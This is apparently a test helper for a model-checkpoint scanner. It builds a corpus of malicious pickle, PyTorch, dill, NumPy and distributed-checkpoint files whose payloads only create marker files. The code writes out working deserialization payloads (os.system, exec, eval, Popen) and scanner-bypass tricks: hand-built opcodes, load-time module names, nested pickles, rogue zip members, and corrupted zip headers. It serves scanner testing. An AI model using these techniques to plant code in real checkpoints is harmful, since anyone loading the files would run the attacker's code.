"""A corpus of malicious checkpoints, built in a temporary folder (never committed).

Every payload creates a marker file when it runs, so tests can prove two
things: the payload is live (loading it the way a victim would creates the
marker) and ckpt never runs it (after scan, gate, inspect, diff, migrate the
marker does not exist). The same corpus feeds benchmarks/compare_scanners.py.

Cases that name a known scanner bypass say so in ``note``.
"""
from __future__ import annotations

import argparse
import io
import os
import pickle
import struct
import subprocess
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any


@dataclass(frozen=True)
class Case:
    name: str
    path: str  # the file (or DCP folder) to scan
    marker: str  # created by the payload when it runs
    loader: str | None  # how a victim loads it (see load_like_a_victim); None: no stock loader would
    note: str


class Reduce:
    """An object that pickles as ``func(*args)``: the classic payload shape."""

    def __init__(self, func: Any, *args: Any) -> None:
        self.func = func
        self.args = args

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return (self.func, self.args)

    def __call__(self, *args: Any) -> Any:  # pickle insists a reduce function is callable
        raise RuntimeError("never called while building the corpus")


def _touch(marker: str) -> str:
    return f"touch '{marker}'"


def _py_touch(marker: str) -> str:
    return f"open({marker!r}, 'w').close()"


# --------------------------------------------------------------- hand-written pickles


def _short_unicode(text: str) -> bytes:
    raw = text.encode()
    return (b"\x8c" + bytes([len(raw)]) + raw) if len(raw) < 256 else (b"X" + struct.pack("<I", len(raw)) + raw)


def proto0_global(module: str, name: str, arg: str) -> bytes:
    """``module.name(arg)`` with GLOBAL and REDUCE, as the oldest exploits are written."""
    return f"c{module}\n{name}\n(V{arg}\ntR.".encode()


def proto0_inst(module: str, name: str, arg: str) -> bytes:
    """The same call through the INST opcode (scanners that only look at GLOBAL miss it)."""
    return f"(V{arg}\ni{module}\n{name}\n.".encode()


def memo_stack_global(module: str, name: str, arg: str) -> bytes:
    """STACK_GLOBAL whose strings were memoized, popped, and fetched back much later."""
    return (
        b"\x80\x04" + _short_unicode(module) + b"\x94" + _short_unicode(name) + b"\x94" + b"00"
        + b"}\x94" + _short_unicode("decoy") + b"0" + b"0"
        + b"h\x00h\x01\x93" + _short_unicode(arg) + b"\x85R."
    )


def tuple_hidden_stack_global(module: str, name: str, arg: str) -> bytes:
    """The module name is memoized inside a tuple that is then thrown away."""
    return (
        b"\x80\x04(" + _short_unicode("torch") + _short_unicode(module) + b"q\x05" + _short_unicode("x") + b"t0"
        + _short_unicode(name) + b"q\x06" + b"0" + _short_unicode("torch._utils") + b"0"
        + b"h\x05h\x06\x93" + _short_unicode(arg) + b"\x85R."
    )


def computed_stack_global(arg: str) -> bytes:
    """The module name is built at load time with ``str.join``: it cannot be resolved statically."""
    return (
        b"\x80\x04" + _short_unicode("builtins") + _short_unicode("str.join") + b"\x93"
        + _short_unicode("") + b"](" + _short_unicode("o") + _short_unicode("s") + b"e\x86R"
        + _short_unicode("system") + b"\x93" + _short_unicode(arg) + b"\x85R."
    )


# --------------------------------------------------------------------- the corpus


def _clean_state_dict() -> dict[str, Any]:
    import torch

    g = torch.Generator().manual_seed(0)
    return {"fc.weight": torch.randn(2, 3, generator=g), "fc.bias": torch.zeros(2)}


def _torch_save_bytes(obj: Any, **kwargs: Any) -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save(obj, buf, **kwargs)
    return buf.getvalue()


def _rewrite_zip(raw: bytes, rename: Callable[[str], str], extra: dict[str, bytes] | None = None) -> bytes:
    """Copy a zip, renaming members and adding new ones, with the real writer."""
    src = zipfile.ZipFile(io.BytesIO(raw))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            dst.writestr(rename(info.filename), src.read(info.filename))
        for name, data in (extra or {}).items():
            dst.writestr(name, data)
    return out.getvalue()


def _member_offset(raw: bytes, name: str) -> tuple[int, int]:
    """(local header offset, central directory entry offset) of a member."""
    z = zipfile.ZipFile(io.BytesIO(raw))
    info = z.getinfo(name)
    cd = raw.find(b"PK\x01\x02" + raw[info.header_offset + 4 : info.header_offset + 6])
    while cd >= 0:
        nlen = struct.unpack_from("<H", raw, cd + 28)[0]
        if raw[cd + 46 : cd + 46 + nlen].decode() == name:
            return info.header_offset, cd
        cd = raw.find(b"PK\x01\x02", cd + 1)
    raise ValueError(name)


def build_corpus(folder: str) -> list[Case]:
    """Write every malicious case into ``folder``; return them in a stable order."""
    import dill
    import torch

    os.makedirs(folder, exist_ok=True)
    markers = os.path.join(folder, "markers")
    os.makedirs(markers, exist_ok=True)
    cases: list[Case] = []

    def add(name: str, data: bytes | None, loader: str | None, note: str, filename: str | None = None,
            path: str | None = None) -> None:
        target = path or os.path.join(folder, filename or f"{name}.pkl")
        if data is not None:
            with open(target, "wb") as f:
                f.write(data)
        cases.append(Case(name, target, os.path.join(markers, name), loader, note))

    def m(name: str) -> str:
        return os.path.join(markers, name)

    sd = _clean_state_dict()
    add("os_system", proto0_global("os", "system", _touch(m("os_system"))), "pickle",
        "GLOBAL os.system, protocol 0")
    add("posix_system", pickle.dumps(Reduce(os.system, _touch(m("posix_system"))), protocol=2), "pickle",
        "os.system as pickle writes it on Linux: posix.system")
    add("builtins_exec", pickle.dumps(Reduce(exec, _py_touch(m("builtins_exec"))), protocol=4), "pickle",
        "builtins.exec")
    add("builtins_eval", pickle.dumps(Reduce(eval, f"__import__('os').system({_touch(m('builtins_eval'))!r})"),
                                      protocol=3), "pickle", "builtins.eval")
    add("subprocess_popen", pickle.dumps(Reduce(subprocess.Popen, ["touch", m("subprocess_popen")]), protocol=4),
        "pickle", "subprocess.Popen")
    import runpy

    add("runpy_run_code", pickle.dumps(Reduce(runpy._run_code, _py_touch(m("runpy_run_code")), {}), protocol=4),
        "pickle", "runpy._run_code")
    import importlib

    chain = Reduce(Reduce(getattr, Reduce(importlib.import_module, "os"), "system"), _touch(m("importlib_chain")))
    add("importlib_chain", pickle.dumps(chain, protocol=4), "pickle",
        "getattr(importlib.import_module('os'), 'system')(...)")
    add("inst_opcode", proto0_inst("os", "system", _touch(m("inst_opcode"))), "pickle",
        "INST opcode instead of GLOBAL+REDUCE")
    add("memo_stack_global", memo_stack_global("os", "system", _touch(m("memo_stack_global"))), "pickle",
        "bypass: STACK_GLOBAL strings memoized, popped and fetched back")
    add("tuple_memo_stack_global", tuple_hidden_stack_global("os", "system", _touch(m("tuple_memo_stack_global"))),
        "pickle", "bypass: module name memoized inside a discarded tuple")
    add("computed_stack_global", computed_stack_global(_touch(m("computed_stack_global"))), "pickle",
        "bypass: module name built at load time (str.join), unresolvable")
    add("compat_commands", proto0_global("commands", "getoutput", _touch(m("compat_commands"))), "pickle",
        "bypass: py2 name 'commands' that _compat_pickle maps to subprocess")
    inner = pickle.dumps(Reduce(os.system, _touch(m("nested_pickle_loads"))), protocol=4)
    add("nested_pickle_loads", pickle.dumps(Reduce(pickle.loads, inner), protocol=4), "pickle",
        "nested: pickle.loads of an embedded pickle")
    inner_zip = _torch_save_bytes({"x": Reduce(os.system, _touch(m("nested_load_from_bytes")))})
    add("nested_load_from_bytes",
        pickle.dumps({"weight": Reduce(torch.storage._load_from_bytes, inner_zip)}, protocol=2), "pickle",
        "bypass: torch.storage._load_from_bytes (allowed, as torch pickles storages) of a payload zip")
    add("optimizer_entry", _torch_save_bytes({
        "model": sd, "epoch": 3,
        "optimizer": {"state": {}, "param_groups": [{"lr": 0.1, "params": [0, 1],
                                                     "hook": Reduce(exec, _py_touch(m("optimizer_entry")))}]},
    }), "torch", "payload in the optimizer entry of a training checkpoint", "optimizer_entry.pth")
    add("args_entry", _torch_save_bytes({
        "model": sd, "args": argparse.Namespace(lr=0.1, arch=Reduce(os.system, _touch(m("args_entry")))),
    }), "torch", "payload in the argparse args of a training checkpoint", "args_entry.pth")
    clean = _torch_save_bytes(sd)
    prefix = zipfile.ZipFile(io.BytesIO(clean)).namelist()[0].split("/")[0]
    add("second_zip_member", _rewrite_zip(clean, lambda n: n, {
        f"{prefix}/extra.pkl": pickle.dumps(Reduce(os.system, _touch(m("second_zip_member"))), protocol=2),
    }), "zip-member:" + f"{prefix}/extra.pkl", "bypass: payload in a zip member other than data.pkl",
        "second_zip_member.pth")
    evil = _torch_save_bytes(Reduce(os.system, _touch(m("dotdot_member_names"))))
    add("dotdot_member_names", _rewrite_zip(evil, lambda n: "../" + n.split("/", 1)[1]), "torch",
        "bypass: member names under '..' (torch reads them)", "dotdot_member_names.pth")
    add("legacy_format", _torch_save_bytes(Reduce(os.system, _touch(m("legacy_format"))),
                                           _use_new_zipfile_serialization=False), "torch",
        "payload in the legacy (pre-zip) format", "legacy_format.pth")
    pad = ""
    while True:  # torch refuses the file when a zip header sits where tarfile stopped reading (byte 512)
        prefix = pickle.dumps(Reduce(os.system, pad + _touch(m("pickle_before_zip"))), protocol=2)
        if (prefix + clean)[512:516] != b"PK\x03\x04":
            break
        pad += " "
    add("pickle_before_zip", prefix + clean,
        "torch", "bypass: a pickle prepended to a clean zip (torch reads it as legacy)", "pickle_before_zip.pth")
    add("misleading_extension", pickle.dumps(Reduce(os.system, _touch(m("misleading_extension"))), protocol=4),
        "pickle", "bypass: a pickle named .safetensors", "model.safetensors")
    raw = bytearray(_torch_save_bytes(Reduce(os.system, _touch(m("broken_zip_crc")))))
    name = zipfile.ZipFile(io.BytesIO(bytes(raw))).namelist()[0]
    local, central = _member_offset(bytes(raw), name)
    struct.pack_into("<L", raw, local + 14, 0xDEADBEEF)
    struct.pack_into("<L", raw, central + 16, 0xDEADBEEF)
    add("broken_zip_crc", bytes(raw), "torch", "bypass: bad CRC (torch ignores it, zipfile refuses)",
        "broken_zip_crc.pth")
    raw = bytearray(_torch_save_bytes(Reduce(os.system, _touch(m("broken_zip_local_name")))))
    local, _ = _member_offset(bytes(raw), name)
    nlen = struct.unpack_from("<H", raw, local + 26)[0]
    raw[local + 30 : local + 30 + nlen] = b"x" * nlen
    add("broken_zip_local_name", bytes(raw), "torch",
        "bypass: local header name differs from the directory (torch ignores it, zipfile refuses)",
        "broken_zip_local_name.pth")
    raw = bytearray(_torch_save_bytes(Reduce(os.system, _touch(m("broken_zip_directory")))))
    eocd = bytes(raw).rfind(b"PK\x05\x06")
    struct.pack_into("<L", raw, eocd + 16, 0)  # the classic record's directory offset: wrong
    add("broken_zip_directory", bytes(raw), "torch",
        "bypass: end record with a wrong directory offset (torch reads the zip64 one)", "broken_zip_directory.pth")
    raw = _torch_save_bytes(Reduce(os.system, _touch(m("truncated_zip"))))
    add("truncated_zip", raw[: raw.find(b"PK\x01\x02")], None,
        "truncated zip without central directory: scanned through its local headers", "truncated_zip.pth")
    fn = eval(f"lambda: open({m('dill_function_call')!r}, 'w').close()", {"__name__": "__main__"})
    add("dill_function_call", dill.dumps(Reduce(fn)), "dill",
        "dill: a function pickled by value and called at load time", "dill_function_call.dill")
    add("dill_os_system", dill.dumps({"model": sd, "hook": Reduce(os.system, _touch(m("dill_os_system")))}),
        "dill", "dill file with os.system", "dill_os_system.dill")
    import numpy as np

    arr = np.empty(1, dtype=object)
    arr[0] = Reduce(os.system, _touch(m("numpy_object_array")))
    with open(os.path.join(folder, "numpy_object_array.npy"), "wb") as f:
        np.save(f, arr, allow_pickle=True)
    add("numpy_object_array", None, "numpy", "NumPy .npy with an object dtype (np.load allow_pickle=True)",
        "numpy_object_array.npy")
    dcp_dir = os.path.join(folder, "dcp_payload")
    _dcp_save({"model": sd, "extra": Reduce(os.system, _touch(m("dcp_bytes_item")))}, dcp_dir)
    add("dcp_bytes_item", None, "dcp", "DCP: payload in a non-tensor item of a .distcp file", path=dcp_dir)
    meta = os.path.join(folder, "dcp_metadata")
    _dcp_save({"model": sd}, meta)
    with open(os.path.join(meta, ".metadata"), "wb") as f:
        f.write(pickle.dumps(Reduce(os.system, _touch(m("dcp_metadata"))), protocol=2))
    add("dcp_metadata", None, "dcp", "DCP: payload in .metadata", path=meta)
    return cases


def _dcp_save(state: dict[str, Any], folder: str) -> None:
    import warnings

    import torch.distributed.checkpoint as dcp

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # "assuming the intent is to save in a single process"
        dcp.save(state, checkpoint_id=folder)


def load_like_a_victim(case: Case) -> None:
    """Load a case the way a careless user would (this RUNS the payload; only in a subprocess)."""
    kind = case.loader
    if kind == "pickle":
        with open(case.path, "rb") as f:
            pickle.load(f)
    elif kind == "torch":
        import torch

        torch.load(case.path, weights_only=False)
    elif kind == "dill":
        import dill

        with open(case.path, "rb") as f:
            dill.load(f)
    elif kind == "numpy":
        import numpy as np

        np.load(case.path, allow_pickle=True)
    elif kind and kind.startswith("zip-member:"):
        with zipfile.ZipFile(case.path) as z:
            pickle.loads(z.read(kind.split(":", 1)[1]))
    elif kind == "dcp":
        import tempfile

        from torch.distributed.checkpoint.format_utils import dcp_to_torch_save

        with tempfile.TemporaryDirectory() as tmp:
            dcp_to_torch_save(case.path, os.path.join(tmp, "out.pt"))


if __name__ == "__main__":
    # python tests/helpers/malicious.py FOLDER [CASE]: build the corpus; with CASE, load it like a victim.
    built = build_corpus(sys.argv[1])
    if len(sys.argv) > 2:
        chosen = next(c for c in built if c.name == sys.argv[2])
        try:
            load_like_a_victim(chosen)
        except Exception as exc:  # noqa: BLE001 - the payload ran or not; the marker tells
            print(f"load raised {type(exc).__name__}: {exc}", file=sys.stderr)
    else:
        for c in built:
            print(c.name, c.path)
